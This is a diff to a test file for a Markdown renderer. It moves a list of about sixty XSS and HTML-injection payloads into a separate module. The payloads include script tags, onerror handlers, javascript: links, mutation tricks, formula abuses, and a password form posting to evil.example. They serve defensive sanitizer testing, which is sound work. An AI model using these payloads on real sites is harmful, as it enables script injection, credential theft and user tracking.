@@ -1,4 +1,5 @@
 import { describe, expect, test } from "vitest";
+import { hostileMarkdown } from "./hostileMarkdown.ts";
 import { renderMarkdown } from "./markdown.ts";
 
 const files = (name: string) => (name === "a.svg" ? "/api/problem-file/1/a.svg" : undefined);
@@ -41,76 +42,7 @@ function strangers(html: string): string[] {
   return found;
 }
 
-/** Ways into a page, each with what it tries. */
-const payloads: [what: string, source: string][] = [
-  ["a script", "<script>alert(1)</script>"],
-  ["a script in odd case", "<ScRiPt src=//evil.example/x.js></sCrIpT>"],
-  ["a script torn in two", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
-  ["an image's error", "<img src=x onerror=alert(1)>"],
-  ["an image's error without blanks", "<img/src=x/onerror=alert(1)>"],
-  ["a foreign picture that counts readers", "<img src=https://evil.example/pixel.png>"],
-  ["a foreign picture in Markdown", "![x](https://evil.example/pixel.png)"],
-  ["a picture from a protocol-relative address", "![x](//evil.example/pixel.png)"],
-  ["a picture from a backslash address", "![x](/\\evil.example/pixel.png)"],
-  ["a set of foreign pictures", "<img srcset='https://evil.example/p.png 2x' src=a.svg>"],
-  ["an SVG's load", "<svg onload=alert(1)><circle r=1></svg>"],
-  ["an SVG's script", "<svg><script>alert(1)</script></svg>"],
-  [
-    "an SVG's animated link",
-    "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
-  ],
-  ["a javascript link", "[x](javascript:alert(1))"],
-  ["a javascript link in odd case", "[x](JaVaScRiPt:alert(1))"],
-  ["a javascript link by entities", "<a href='&#106;avascript:alert(1)'>x</a>"],
-  ["a javascript link split by a tab", "<a href='java&#9;script:alert(1)'>x</a>"],
-  ["a javascript link after a control character", "<a href='\u0001javascript:alert(1)'>x</a>"],
-  ["a vbscript link", "<a href=vbscript:msgbox(1)>x</a>"],
-  ["a data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
-  ["a data picture with a script", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>"],
-  ["an autolink", "<javascript:alert(1)>"],
-  ["a link reference", "[x][y]\n\n[y]: javascript:alert(1)"],
-  ["a frame", "<iframe src=javascript:alert(1)></iframe>"],
-  ["a frame's own document", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"],
-  ["an object", "<object data=javascript:alert(1)></object>"],
-  ["an embed", "<embed src=javascript:alert(1)>"],
-  ["a base address", "<base href=https://evil.example/>"],
-  ["a refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>"],
-  ["a style sheet", "<style>@import 'https://evil.example/x.css'; body{display:none}</style>"],
-  ["a linked style sheet", "<link rel=stylesheet href=https://evil.example/x.css>"],
-  ["an overlay over the page", "<div style='position:fixed;inset:0;z-index:9999'>log in</div>"],
-  ["a foreign background", "<td style='background:url(https://evil.example/p)'>x</td>"],
-  [
-    "a form that asks for the password",
-    "<form action=https://evil.example><input name=password></form>",
-  ],
-  ["a button that submits elsewhere", "<button formaction=javascript:alert(1)>x</button>"],
-  ["details that open by themselves", "<details open ontoggle=alert(1)>x</details>"],
-  ["a field that grabs the focus", "<input autofocus onfocus=alert(1)>"],
-  ["a marquee", "<marquee onstart=alert(1)>x</marquee>"],
-  ["a video's error", "<video><source onerror=alert(1)></video>"],
-  ["mutation by math and style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
-  ["mutation by noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"],
-  ["mutation by a comment", "<!--><img src=x onerror=alert(1)>-->"],
-  ["mutation by template", "<template><img src=x onerror=alert(1)></template>"],
-  ["a name that hides the document's own", "<img name=getElementById><a id=cookie>x</a>"],
-  ["a class of the page's own", "<span class='mantine-Modal-root hljs-keyword'>x</span>"],
-  ["an attribute broken by a backtick", "<img src=`x` onerror=alert(1)>"],
-  ["an unclosed attribute", "<img src='x' title='\"><img src=x onerror=alert(1)>"],
-  ["a NUL in the tag", "<scr\0ipt>alert(1)</scr\0ipt>"],
-  ["a code fence's language", '```"><img src=x onerror=alert(1)>\ncode\n```'],
-  ["a code fence", "```html\n<script>alert(1)</script>\n```"],
-  ["a heading's text", "# <img src=x onerror=alert(1)>"],
-  ["a table cell", "|a|\n|-|\n|<svg/onload=alert(1)>|"],
-  ["a formula with a link", "$\\href{javascript:alert(1)}{x}$"],
-  ["a formula with HTML", "$\\htmlData{onclick=alert(1)}{x}$ $\\htmlStyle{position:fixed}{x}$"],
-  ["a formula with a picture", "$\\includegraphics{https://evil.example/p.png}$"],
-  ["a formula that is HTML", "$\\text{<img src=x onerror=alert(1)>}$"],
-  ["a broken formula that is HTML", "$\\frac{<img src=x onerror=alert(1)>$"],
-  ["a formula's macro that never ends", "$\\def\\a{\\a\\a}\\a$"],
-  ["a formula as big as the page", "$\\rule{999999em}{999999em}$"],
-];
-
-test.each(payloads)("%s does nothing", (_what, source) => {
+test.each(hostileMarkdown)("%s does nothing", (_what, source) => {
   const html = renderMarkdown(source, files);
   expect(strangers(html)).toEqual([]);
   expect(html).not.toMatch(/class="[^"]*mantine/);
